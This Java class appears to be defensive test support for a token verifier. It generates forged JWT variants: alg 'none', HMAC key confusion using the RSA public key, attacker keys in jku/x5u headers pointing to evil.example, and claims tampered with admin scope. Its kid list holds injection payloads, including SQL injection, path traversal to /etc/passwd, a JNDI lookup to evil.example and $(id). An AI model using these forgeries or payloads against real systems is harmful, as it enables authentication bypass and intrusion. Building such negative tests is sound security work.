package dev.commercesuite.system.security.mutation;

import static dev.commercesuite.system.security.mutation.TokenMutation.token;
import static java.nio.charset.StandardCharsets.US_ASCII;

import com.fasterxml.jackson.databind.JsonNode;
import dev.commercesuite.system.security.tokens.IssuerKey;
import dev.commercesuite.system.security.tokens.TokenDraft;
import dev.commercesuite.system.security.tokens.TokenSigner;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.interfaces.RSAPublicKey;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/** Tokens of somebody who knows everything about good ones but the private key. */
final class ForgedTokens {
  private final TokenDraft draft;
  private final IssuerKey real;
  private final IssuerKey attacker = IssuerKey.ofAttacker();
  private final List<TokenMutation> all = new ArrayList<>();

  private ForgedTokens(TokenDraft draft, IssuerKey real) {
    this.draft = draft;
    this.real = real;
  }

  /**
   * Forges tokens.
   *
   * @param draft of a good token
   * @param real key of the issuer, of which only the public half is used
   * @param good the good token
   */
  static List<TokenMutation> of(TokenDraft draft, IssuerKey real, String good) {
    var tokens = new ForgedTokens(draft, real);
    tokens.unsigned();
    tokens.symmetric();
    tokens.otherAlgorithms(good);
    tokens.keysInTheHeader();
    tokens.keyIds();
    tokens.changedClaims(good);
    tokens.all.addAll(
        MalformedJsonTokens.of(draft, "signed by somebody else", tokens.attacker.rs256()));
    return tokens.all;
  }

  private void unsigned() {
    for (String none : List.of("none", "None", "NONE", "nOnE", "", "null")) {
      TokenDraft unsigned = draft.withHeader("alg", none);
      add("alg '" + none + "', empty signature", unsigned.signedBy(TokenSigner.nothing()));
      add("alg '" + none + "', any signature", unsigned.signedBy(attacker.rs256()));
    }
    add("no alg", draft.withoutHeader("alg").signedBy(TokenSigner.nothing()));
    add("alg null", draft.withHeader("alg", json("null")).signedBy(TokenSigner.nothing()));
  }

  private void symmetric() {
    byte[] modulus = ((RSAPublicKey) real.publicKey()).getModulus().toByteArray();
    Map<String, byte[]> keys =
        Map.of(
            "the public key in PEM", real.publicPem(),
            "the public key in PEM without the last line break", withoutLast(real.publicPem()),
            "the public key in DER", real.publicDer(),
            "the modulus", modulus,
            "the kid", draft.header().path("kid").asText().getBytes(US_ASCII),
            "a zero", new byte[1]);
    keys.forEach((name, key) -> {
      add(
          "HS256 with " + name,
          draft.withHeader("alg", "HS256").signedBy(TokenSigner.hmac(key, "HmacSHA256")));
      add("RS256 over an HMAC with " + name, draft.signedBy(TokenSigner.hmac(key, "HmacSHA256")));
    });
    add(
        "HS384 with the public key in PEM",
        draft
            .withHeader("alg", "HS384")
            .signedBy(TokenSigner.hmac(real.publicPem(), "HmacSHA384")));
    add(
        "HS512 with the public key in PEM",
        draft
            .withHeader("alg", "HS512")
            .signedBy(TokenSigner.hmac(real.publicPem(), "HmacSHA512")));
  }

  private void otherAlgorithms(String good) {
    String signature = good.substring(good.lastIndexOf('.'));
    for (String alg : List.of("rs256", "RS256 ", "RS384", "RS512", "PS256", "ES256", "RSA", "*")) {
      add(
          "alg '" + alg + "' over the real signature",
          draft.withHeader("alg", alg).signingInput() + signature);
    }
    KeyPair ec = pair("EC");
    KeyPair ed = pair("Ed25519");
    add(
        "ES256 with a key of one's own",
        draft
            .withHeader("alg", "ES256")
            .signedBy(TokenSigner.with(ec.getPrivate(), "SHA256withECDSAinP1363Format", null)));
    add("ES256 of zeros", draft.withHeader("alg", "ES256").signedBy(_ -> new byte[64]));
    add(
        "EdDSA with a key of one's own",
        draft
            .withHeader("alg", "EdDSA")
            .signedBy(TokenSigner.with(ed.getPrivate(), "Ed25519", null)));
    add("RS256 with a key of one's own", draft.signedBy(attacker.rs256()));
  }

  private void keysInTheHeader() {
    String n = TokenDraft.encode(unsigned(((RSAPublicKey) attacker.publicKey())));
    JsonNode jwk =
        json(
            "{\"kty\":\"RSA\",\"use\":\"sig\",\"alg\":\"RS256\",\"kid\":\"evil\",\"e\":\"AQAB\",\"n\":\""
                + n
                + "\"}");
    String x5c = Base64.getEncoder().encodeToString(attacker.publicDer());
    Map<String, JsonNode> headers =
        Map.of(
            "jwk", jwk,
            "jku", json("\"https://evil.example/jwks.json\""),
            "x5u", json("\"https://evil.example/chain.pem\""),
            "x5c", json("[\"" + x5c + "\"]"),
            "x5t#S256", json("\"AAAA\""));
    headers.forEach((name, value) -> {
      TokenDraft withKey = draft.withHeader(name, value);
      add(name + " with the real kid", withKey.signedBy(attacker.rs256()));
      add(
          name + " with a kid of one's own",
          withKey.withHeader("kid", "evil").signedBy(attacker.rs256()));
      add(name + " without kid", withKey.withoutHeader("kid").signedBy(attacker.rs256()));
    });
  }

  private void keyIds() {
    String kid = draft.header().path("kid").asText();
    List<String> kids =
        List.of(
            "",
            " ",
            " " + kid,
            kid + " ",
            kid.toLowerCase(Locale.ROOT),
            kid + "\u0000",
            "../../../../../../dev/null",
            "/proc/self/environ",
            "file:///etc/passwd",
            "https://evil.example/key.pem",
            "' or '1'='1",
            "' union select 'a2V5' --",
            "x'; drop table users; --",
            "${jndi:ldap://evil.example/a}",
            "$(id)",
            "*",
            "0",
            "__proto__",
            "k".repeat(4_000));
    kids.forEach(value ->
        add(
            "kid '" + name(value) + "'",
            draft.withHeader("kid", value).signedBy(attacker.rs256())));
    for (String value :
        List.of("null", "0", "true", "[\"" + kid + "\"]", "{\"kid\":\"" + kid + "\"}")) {
      add("kid " + name(value), draft.withHeader("kid", json(value)).signedBy(attacker.rs256()));
    }
  }

  private void changedClaims(String good) {
    String signature = good.substring(good.lastIndexOf('.'));
    Map<String, TokenDraft> changes =
        Map.of(
            "sub", draft.withClaim("sub", "00000000-0000-0000-0000-000000000000"),
            "scope", draft.withClaim("scope", "users.admin finance payments.charge"),
            "exp", draft.withClaim("exp", draft.claims().path("exp").asLong() + 1),
            "iss", draft.withClaim("iss", "https://evil.example"),
            "aud", draft.withClaim("aud", "everybody"),
            "sid", draft.withClaim("sid", "00000000-0000-0000-0000-000000000000"),
            "user_version", draft.withClaim("user_version", 1_000_000),
            "client_id", draft.withClaim("client_id", draft.claim("sub")),
            "jti", draft.withClaim("jti", "00000000-0000-0000-0000-000000000000"),
            "a new claim", draft.withClaim("admin", json("true")));
    changes.forEach((name, changed) ->
        add("changed " + name + " over the real signature", changed.signingInput() + signature));
  }

  private void add(String name, String token) {
    all.add(token(name, token));
  }

  private static String name(String value) {
    return value.length() > 40 ? value.substring(0, 40) + "…" : value.replace("\u0000", "\\0");
  }

  private static byte[] unsigned(RSAPublicKey key) {
    byte[] bytes = key.getModulus().toByteArray();
    return Arrays.copyOfRange(bytes, 1, bytes.length);
  }

  private static byte[] withoutLast(byte[] bytes) {
    return Arrays.copyOf(bytes, bytes.length - 1);
  }

  private static KeyPair pair(String algorithm) {
    try {
      return KeyPairGenerator.getInstance(algorithm).generateKeyPair();
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private static JsonNode json(String text) {
    return TokenDraft.json(text);
  }
}
